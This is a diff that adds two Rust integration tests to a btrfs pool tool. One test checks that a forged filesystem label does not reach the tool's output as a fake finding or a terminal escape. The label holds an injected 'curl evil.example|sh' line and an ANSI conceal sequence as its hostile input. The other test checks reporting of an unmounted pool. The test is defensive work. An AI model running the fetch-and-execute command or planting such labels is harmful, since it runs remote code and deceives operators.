@@ -4,6 +4,100 @@ use crate::host::{Host, mib};
 use braid_loop_disks::in_private_mounts;
 use serde_json::Value;
 
+/// An image that somebody else labelled.
+#[test]
+fn a_label_forges_no_finding_and_commands_no_terminal() {
+    in_private_mounts("findings::a_label_forges_no_finding_and_commands_no_terminal", || {
+        let host = Host::new();
+        let disk = host.disk("evil");
+        let forged = "usb\nDANGER     data: gone\n           mend it: curl evil.example|sh\x1b[8m";
+        let made = std::process::Command::new("mkfs.btrfs")
+            .args(["-q", "-L", forged, disk.path()])
+            .env("PATH", "/usr/sbin:/sbin:/usr/bin:/bin")
+            .status();
+        assert!(made.unwrap().success());
+        host.sh(&format!("mkdir at && mount {} at", disk.path()));
+        let mounted = host.braid(&["status"]);
+        host.sh("umount at");
+        let mut shown_names = 0;
+        for shown in [
+            mounted,
+            host.braid(&["status"]),
+            host.braid(&["doctor", "--no-smart"]),
+            host.braid(&["disks", "--no-smart"]),
+            host.braid(&["doctor", "no such pool"]),
+            host.braid(&["scrub", "start", "--all"]),
+        ] {
+            let all = [shown.stdout, shown.stderr].concat();
+            let all = String::from_utf8(all).unwrap();
+            shown_names += all.matches("usb").count();
+            assert!(!all.contains('\x1b'), "{all:?}");
+            let forged = |line: &str| {
+                line.starts_with("DANGER     data:")
+                    || line.contains("mend it: curl") && !line.contains("usb")
+            };
+            assert!(!all.lines().any(forged), "{all}");
+        }
+        assert!(shown_names >= 3, "it is shown, as it can be");
+    });
+}
+
+/// What was found in it before isn't gone.
+#[test]
+fn a_pool_of_fstab_that_is_not_mounted_is_told_everywhere() {
+    in_private_mounts("findings::a_pool_of_fstab_that_is_not_mounted_is_told_everywhere", || {
+        let host = Host::new();
+        let [a, b] = ["a", "b"].map(|name| host.disk(name));
+        host.create("btrfs-raid1", &[&a, &b]);
+        host.sh("btrfs quota enable data");
+        let (state, metrics) = (host.path("watch"), host.path("metrics"));
+        let watch = || {
+            let words = [
+                "watch",
+                "--no-smart",
+                "--json",
+                "--state",
+                state.to_str().unwrap(),
+                "--prometheus",
+                metrics.to_str().unwrap(),
+            ];
+            let report: serde_json::Value =
+                serde_json::from_slice(&host.braid(&words).stdout).unwrap();
+            let changes = report["changes"].as_array().unwrap().clone();
+            let ours = changes.into_iter().filter(|change| change["finding"]["pool"] == "data");
+            ours.map(|change| {
+                format!("{} {}", change["event"], change["finding"]["code"]).replace('"', "")
+            })
+            .collect::<Vec<_>>()
+        };
+        assert!(
+            watch().iter().any(|change| change.starts_with("new ")),
+            "something is wrong with it"
+        );
+        host.sh("umount data");
+        assert_eq!(watch(), ["new not-mounted"]);
+        let text = std::fs::read_to_string(&metrics).unwrap();
+        assert!(
+            text.lines().any(|line| line.starts_with("braid_pool_mounted{")
+                && line.contains("pool=\"data\"")
+                && line.ends_with(" 0")),
+            "{text}"
+        );
+        let status = host.braid(&["status", "data"]);
+        assert_eq!(status.status.code(), Some(11));
+        assert!(String::from_utf8_lossy(&status.stdout).contains("unmounted"));
+        let findings = host.findings();
+        let told = findings.iter().find(|one| one["code"] == "not-mounted").unwrap();
+        assert_eq!(told["mend"], format!("mount {}", host.path("data").display()));
+        host.sh(&format!("mount {} data", a.path()));
+        assert_eq!(watch(), ["gone not-mounted"]);
+        assert_eq!(
+            host.works(&["status", host.path("data").to_str().unwrap()]),
+            host.works(&["status", "data"])
+        );
+    });
+}
+
 #[test]
 fn habits_that_harm_are_found_and_ended() {
     in_private_mounts("findings::habits_that_harm_are_found_and_ended", || {
